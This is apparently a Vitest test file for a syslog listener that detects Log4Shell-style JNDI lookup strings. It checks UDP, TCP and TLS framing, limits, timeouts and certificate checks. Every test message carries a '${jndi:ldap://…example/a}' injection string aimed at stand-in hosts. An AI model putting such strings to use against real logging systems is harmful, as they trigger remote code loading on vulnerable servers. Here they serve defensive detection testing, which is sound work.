import { execFile } from 'node:child_process'
import { createSocket } from 'node:dgram'
import { connect, type Socket } from 'node:net'
import { connect as connectTls } from 'node:tls'
import { promisify } from 'node:util'
import { expect, test } from 'vitest'
import { selfSigned } from '../../../../test/kit/certificate.ts'
import type { AttackFinding, Gap } from '../../../core/index.ts'
import { listenSyslog } from './listen-syslog.ts'
import type { SyslogLimits, SyslogPort, SyslogTls, SyslogTransport } from './syslog-options.ts'

const attack = (name: string): string => `<34>1 2021-12-12T04:25:41Z web1 app - - - \${jndi:ldap://${name}.example/a}`

interface Settings {
  readonly tls?: SyslogTls
  readonly limits?: Partial<SyslogLimits>
}

/** A listener on one port of loopback: what it told, until it is stopped. */
async function listening(transport: SyslogTransport, { tls, limits = {} }: Settings = {}) {
  const stop = new AbortController()
  const findings: AttackFinding[] = []
  const gaps: Gap[] = []
  const notes: string[] = []
  let opened: (ports: readonly SyslogPort[]) => void = () => undefined
  const open = new Promise<readonly SyslogPort[]>((resolve) => {
    opened = resolve
  })
  const request = {
    ports: [{ transport, address: '127.0.0.1', port: 0 }],
    tls: tls ?? null,
    limits,
    onOpen: opened,
  }
  const run = (async () => {
    for await (const event of listenSyslog(request, { signal: stop.signal })) {
      if (event.is === 'finding') findings.push(event.finding)
      else if (event.is === 'gap') gaps.push(event.gap)
      else if (event.is === 'note') notes.push(event.text)
    }
  })()
  const [port] = await open
  if (port === undefined) throw new Error('no port')
  return {
    port: port.port,
    findings,
    gaps,
    notes,
    hosts: (): readonly (string | null)[] => findings.map(({ lookup }) => lookup.host),
    /** Resolves when so much was told; a test that waits too long fails by its own time. */
    async until(told: () => boolean): Promise<void> {
      while (!told()) await new Promise((resolve) => setTimeout(resolve, 10))
    },
    async stop(): Promise<void> {
      stop.abort()
      await run
    },
  }
}

async function connected(port: number): Promise<Socket> {
  const socket = connect(port, '127.0.0.1').on('error', () => undefined)
  await new Promise<void>((resolve) => socket.once('connect', () => resolve()))
  return socket
}

function closed(socket: Socket): Promise<void> {
  return new Promise((resolve) => socket.once('close', () => resolve()))
}

async function sent(port: number, ...datagrams: readonly (string | Uint8Array)[]): Promise<void> {
  const socket = createSocket('udp4')
  for (const each of datagrams) await new Promise((resolve) => socket.send(each, port, '127.0.0.1', resolve))
  socket.close()
}

test('a datagram is a message, and its sender the source, without its port', async () => {
  const run = await listening('udp')
  await sent(run.port, attack('one'), 'nothing', `${attack('two')}\n`)
  await run.until(() => run.findings.length === 2)
  await run.stop()

  expect(run.hosts()).toEqual(['one.example', 'two.example'])
  expect(run.findings[0]).toMatchObject({
    at: { source: 'syslog:udp:127.0.0.1', line: null },
    format: 'syslog-rfc5424',
    when: Date.UTC(2021, 11, 12, 4, 25, 41),
  })
  expect(run.gaps).toEqual([])
  expect(run.notes).toContain('3 messages of syslog were read')
})

test('a datagram beyond the limit is cut, with its size', async () => {
  const run = await listening('udp', { limits: { messageBytes: 100 } })
  await sent(run.port, `${attack('one')}${'x'.repeat(500)}`)
  await run.until(() => run.gaps.length === 1)
  await run.stop()

  expect(run.hosts()).toEqual(['one.example'])
  expect(run.gaps).toMatchObject([{ at: 'syslog:udp:127.0.0.1', because: 'too-large' }])
  expect(run.gaps[0]?.detail).toMatch(/^a message of \d{3} octets: the last \d{3} were not read$/)
})

test.each([
  ['lengths in front', (text: string) => `${Buffer.byteLength(text)} ${text}`],
  ['line feeds', (text: string) => `${text}\n`],
])('a connection with %s, in pieces', async (_case, framed) => {
  const run = await listening('tcp')
  const socket = await connected(run.port)
  const stream = ['one', 'two', 'three'].map((name) => framed(attack(name))).join('')
  for (let at = 0; at < stream.length; at += 50) socket.write(stream.slice(at, at + 50))
  await run.until(() => run.findings.length === 3)
  socket.end()
  await closed(socket)
  await run.stop()

  expect(run.hosts()).toEqual(['one.example', 'two.example', 'three.example'])
  expect(run.gaps).toEqual([])
})

test('lengths that are wrong end the connection, and that is told; others go on', async () => {
  const run = await listening('tcp')
  const [broken, well] = [await connected(run.port), await connected(run.port)]
  const text = attack('one')
  broken.write(`${text.length} ${text}<34>and then none`)
  await closed(broken)
  well.write(`${attack('two')}\n`)
  await run.until(() => run.findings.length === 2)
  await run.stop()

  expect(run.gaps).toMatchObject([{ at: 'syslog:tcp:127.0.0.1', because: 'malformed' }])
})

test('whoever sends a message drop by drop is cut off, what came is read, and that is told', async () => {
  const run = await listening('tcp', { limits: { messageMs: 200 } })
  const socket = await connected(run.port)
  const drip = setInterval(() => socket.write('x'), 20)
  socket.write(`9000 ${attack('one')}`)
  await closed(socket)
  clearInterval(drip)
  await run.stop()

  expect(run.hosts()).toEqual(['one.example'])
  expect(run.gaps).toMatchObject([{ because: 'timed-out', detail: expect.stringContaining('0.2 s') as string }])
})

test('a connection on which nothing comes is ended, and nothing is missed', async () => {
  const run = await listening('tcp', { limits: { idleMs: 100 } })
  await closed(await connected(run.port))
  await run.stop()

  expect(run.gaps).toEqual([])
})

test('connections beyond the limit are turned away; the first is told at once, the sum at the end', async () => {
  const run = await listening('tcp', { limits: { connections: 1 } })
  const first = await connected(run.port)
  first.write(`${attack('one')}\n`)
  await run.until(() => run.findings.length === 1)
  for (let i = 0; i < 3; i++) await closed(await connected(run.port))
  await run.until(() => run.gaps.length === 1)
  await run.stop()

  expect(run.gaps.map(({ because }) => because)).toEqual(['too-many', 'too-many'])
  expect(run.gaps[1]?.detail).toMatch(/^2 more times, the first was: /)
})

test('a message that was under way when it is stopped is read as far as it came', async () => {
  const run = await listening('tcp')
  const socket = await connected(run.port)
  socket.write(`${attack('one')}\n900 ${attack('two')}`)
  await run.until(() => run.findings.length === 1)
  await run.stop()

  expect(run.hosts()).toEqual(['one.example', 'two.example'])
})

test('the end of a connection in the middle of a message is told', async () => {
  const run = await listening('tcp')
  const socket = await connected(run.port)
  socket.end(`900 ${attack('one')}`)
  await run.until(() => run.gaps.length === 1)
  await run.stop()

  expect(run.hosts()).toEqual(['one.example'])
  expect(run.gaps).toMatchObject([{ because: 'truncated' }])
})

test('with TLS: messages of whoever connects, and a handshake that fails is told', async () => {
  const run = await listening('tls', { tls: { ...selfSigned('localhost'), clientCa: null } })
  const socket = connectTls({ port: run.port, host: '127.0.0.1', rejectUnauthorized: false })
  const text = attack('one')
  socket.write(`${text.length} ${text}`)
  await run.until(() => run.findings.length === 1)
  socket.destroy()
  const clear = await connected(run.port)
  clear.write(`${attack('two')}\n`)
  await closed(clear)
  await run.stop()

  expect(run.findings.map(({ at }) => at.source)).toEqual(['syslog:tls:127.0.0.1'])
  expect(run.gaps).toMatchObject([{ at: 'syslog:tls:127.0.0.1', because: 'connection-lost' }])
})

test('with TLS and an authority for clients: only who has a certificate of it may send', async () => {
  const [server, client] = [selfSigned('localhost'), selfSigned('sender')]
  const run = await listening('tls', { tls: { ...server, clientCa: client.cert } })
  const stranger = connectTls({ port: run.port, host: '127.0.0.1', rejectUnauthorized: false })
  stranger.on('error', () => undefined)
  stranger.write(`${attack('one')}\n`)
  await closed(stranger)
  const known = connectTls({ port: run.port, host: '127.0.0.1', rejectUnauthorized: false, ...client })
  known.write(`${attack('two')}\n`)
  await run.until(() => run.findings.length === 1)
  known.destroy()
  await run.stop()

  expect(run.hosts()).toEqual(['two.example'])
  expect(run.gaps).toMatchObject([{ because: 'connection-lost' }])
})

test('a certificate that cannot be used is a problem', async () => {
  const tls = { cert: 'none', key: 'none', clientCa: null }
  const hunt = listenSyslog({ ports: [{ transport: 'tls', address: '127.0.0.1', port: 0 }], tls })

  await expect(hunt[Symbol.asyncIterator]().next()).rejects.toMatchObject({ code: 'SYSLOG_TLS_UNUSABLE' })
})

test('a port that is taken is a problem', async () => {
  const run = await listening('tcp')
  const hunt = listenSyslog({ ports: [{ transport: 'tcp', address: '127.0.0.1', port: run.port }], tls: null })
  await expect(hunt[Symbol.asyncIterator]().next()).rejects.toMatchObject({ code: 'LISTENER_PORT_TAKEN' })
  await run.stop()
})

const logger = await promisify(execFile)('logger', ['--version']).then(
  () => true,
  () => false,
)

test.skipIf(!logger).each([
  ['--rfc5424', 'udp', ['-d'], 'syslog-rfc5424'],
  ['--rfc3164', 'udp', ['-d'], 'syslog-rfc3164'],
  ['--rfc5424', 'tcp', ['-T'], 'syslog-rfc5424'],
  ['--rfc5424', 'tcp', ['-T', '--octet-count'], 'syslog-rfc5424'],
] as const)('logger of util-linux: %s by %s %j', async (format, transport, how, read) => {
  const run = await listening(transport)
  const text = 'login of ${jndi:ldap://one.example/a} failed'
  const to = ['-n', '127.0.0.1', '-P', String(run.port), ...how, format, '-t', 'app']
  await promisify(execFile)('logger', [...to, text])
  await run.until(() => run.findings.length === 1)
  await run.stop()

  expect(run.findings).toMatchObject([{ format: read, lookup: { host: 'one.example' } }])
  expect(run.gaps).toEqual([])
})
